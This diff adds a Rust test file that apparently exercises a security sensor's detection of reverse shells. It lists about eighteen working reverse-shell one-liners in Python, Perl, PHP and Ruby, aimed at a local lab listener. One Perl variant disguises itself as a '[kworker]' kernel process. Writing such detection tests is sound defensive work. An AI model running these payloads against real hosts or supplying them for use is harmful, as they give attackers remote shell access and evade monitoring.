@@ -1,0 +1,133 @@
+//! Reverse shells of scripting languages that put the connection on the shell's streams.
+
+use sensor_tests::{
+    peer::{Listener, V4},
+    suite::Case,
+};
+
+const PYTHON: [(&str, &str); 6] = [
+    (
+        "subprocess_after_dup2",
+        r#"/usr/bin/python3 -c 'import socket,subprocess,os
+s=socket.socket(); s.connect((os.environ["H"],int(os.environ["P"])))
+os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
+subprocess.call(["/bin/sh","-i"])'"#,
+    ),
+    (
+        "execve",
+        r#"exec /usr/bin/python3 -c 'import socket,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+os.execve("/bin/bash",["bash","--norc","-i"],{})'"#,
+    ),
+    (
+        "popen_streams",
+        r#"/usr/bin/python3 -c 'import socket,subprocess,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+subprocess.Popen(["/bin/sh"],stdin=s,stdout=s,stderr=s).wait()'"#,
+    ),
+    (
+        "system",
+        r#"/usr/bin/python3 -c 'import socket,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+os.system("exec sh")'"#,
+    ),
+    (
+        "posix_spawn",
+        r#"/usr/bin/python3 -c 'import socket,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"]))); f=s.fileno()
+p=os.posix_spawn("/bin/sh",["-sh"],os.environ,file_actions=[(os.POSIX_SPAWN_DUP2,f,n) for n in (0,1,2)])
+os.waitpid(p,0)'"#,
+    ),
+    (
+        "spawnl_inherited_descriptor",
+        r#"/usr/bin/python3 -c 'import socket,os
+s=socket.create_connection((os.environ["H"],int(os.environ["P"]))); s.set_inheritable(True)
+os.spawnl(os.P_WAIT,"/bin/sh","sh","-c","exec sh -i <&%d >&%d 2>&%d" % ((s.fileno(),)*3))'"#,
+    ),
+];
+
+const PERL: [(&str, &str); 3] = [
+    (
+        "sockets_exec",
+        r#"exec perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
+if(connect(S,sockaddr_in($ENV{P},inet_aton($ENV{H})))){
+open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'"#,
+    ),
+    (
+        "io_socket_exec",
+        r#"exec perl -MIO::Socket -e '$c=new IO::Socket::INET("$ENV{H}:$ENV{P}");
+open STDIN,"<&",$c; open STDOUT,">&",$c; open STDERR,">&",$c; exec {"/bin/bash"} "-bash","--norc"'"#,
+    ),
+    (
+        "forked_and_renamed",
+        r#"perl -MIO::Socket -e 'exit if fork; $0="[kworker/0:1]"; $c=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
+STDIN->fdopen($c,"r"); STDOUT->fdopen($c,"w"); system("/bin/sh")'"#,
+    ),
+];
+
+const PHP: [(&str, &str); 4] = [
+    (
+        "exec_descriptor_3",
+        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); exec("/bin/sh -i <&3 >&3 2>&3; true");'"#,
+    ),
+    (
+        "shell_exec_descriptor_3",
+        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); shell_exec("exec sh <&3 >&3 2>&3");'"#,
+    ),
+    (
+        "proc_open_streams",
+        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
+$p=proc_open(["/bin/sh"],[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
+    ),
+    (
+        "proc_open_through_sh",
+        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
+$p=proc_open("/bin/sh -i; true",[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
+    ),
+];
+
+const RUBY: [(&str, &str); 3] = [
+    (
+        "exec_sprintf",
+        r#"exec ruby -rsocket -e 'f=TCPSocket.open(ENV["H"],ENV["P"]); n=f.to_i
+exec(sprintf("exec /bin/sh -i <&%d >&%d 2>&%d",n,n,n),{f=>f})'"#,
+    ),
+    (
+        "spawn_streams",
+        r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); Process.wait(spawn("/bin/sh",[:in,:out,:err]=>s))'"#,
+    ),
+    (
+        "reopened_streams",
+        r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); [$stdin,$stdout,$stderr].each{|i|i.reopen(s)}
+exec "/bin/bash","--norc","-i"'"#,
+    ),
+];
+
+pub fn cases() -> Vec<Case> {
+    let mut cases = Vec::new();
+    let mut add = |tools: &'static [&'static str], language: &str, scripts: &[(&str, &'static str)]| {
+        for &(name, script) in scripts {
+            cases.push(Case::new(format!("{language}::{name}"), tools, move |lab| lab.reverse(script)));
+        }
+    };
+    add(&["python3"], "python", &PYTHON);
+    add(&["perl"], "perl", &PERL);
+    add(&["php"], "php", &PHP);
+    add(&["ruby"], "ruby", &RUBY);
+    // The kernel's addresses are ::ffff:127.0.0.1, the connection is IPv4.
+    cases.push(Case::new("python::ipv4_mapped_ipv6", &["python3"], |lab| {
+        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
+s=socket.socket(socket.AF_INET6); s.connect((os.environ["H"],int(os.environ["P"])))
+subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'"#;
+        lab.reverse_to(&Listener::tcp(V4)?, "::ffff:127.0.0.1", script)
+    }));
+    cases.push(Case::new("python::udp", &["python3"], |lab| {
+        let script = r#"exec /usr/bin/python3 -c 'import socket,os
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect((os.environ["H"],int(os.environ["P"])))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; os.execl("/bin/sh","sh","-i")'"#;
+        lab.reverse_to(&Listener::udp(V4)?, "127.0.0.1", script)
+    }));
+    cases
+}
